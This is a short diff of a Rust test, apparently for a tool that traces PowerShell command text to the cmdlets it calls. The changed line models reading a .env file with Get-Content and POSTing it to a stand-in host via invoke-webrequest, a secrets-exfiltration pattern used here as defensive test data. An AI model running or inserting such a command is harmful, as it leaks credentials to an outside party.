@@ -168,7 +168,7 @@ fn pwsh_command_text_reaches_the_cmdlets() {
                     "invoke-webrequest",
                     "https://e.example.com",
                     "POST",
-                    payload(&["$b"], &[(&env, false)], &[])
+                    payload(&["$(Get-Content .env -Raw)"], &[(&env, false)], &[])
                 )
             ]),
         ),
